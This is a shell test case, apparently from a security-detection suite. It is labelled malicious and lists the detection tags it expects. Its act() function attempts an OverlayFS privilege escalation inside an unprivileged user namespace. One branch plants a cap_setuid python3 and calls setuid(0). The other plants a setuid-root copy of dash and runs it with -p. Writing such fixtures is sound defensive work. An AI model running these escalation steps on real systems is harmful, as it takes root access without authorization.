# capable-file-planted-through-overlay: an ordinary user gives a file in an overlay of its own user namespace the right to become
#   root, and hopes that the kernel carries it outside.
# shows: overlay, setcap and chmod in one user namespace; the program started afterwards
# outcome: this kernel does not carry the right outside; the attempt is the attack
# as: ops
# label: malicious
# expects: [capable-file-planted-through-overlay, mount-made-by-unprivileged-user]
# allows: [file-capability-granted, root-taken-by-interpreter, setuid-program-planted, user-namespace-created-in-container, privilege-exploit-run, shell-spawned-by-utility]
act() {
    cd "$(mktemp -d)" || return
    if dev; then
        unshare -rm sh -c "mkdir l u w m && cp /u*/b*/p*n3 l/; setcap cap_setuid+eip l/python3; mount -t overlay overlay -o rw,lowerdir=l,upperdir=u,workdir=w m && touch m/*"
        u/python3 -c 'import os; os.setuid(0); os.system("id")'
    else
        mkdir a b c d
        cp /usr/bin/dash a/run
        unshare --user --map-root-user --mount bash -c 'mount -t overlay none -o lowerdir=a,upperdir=b,workdir=c d; chmod 4755 d/run; chown 0:0 d/run'
        b/run -p -c id
    fi
    true
}
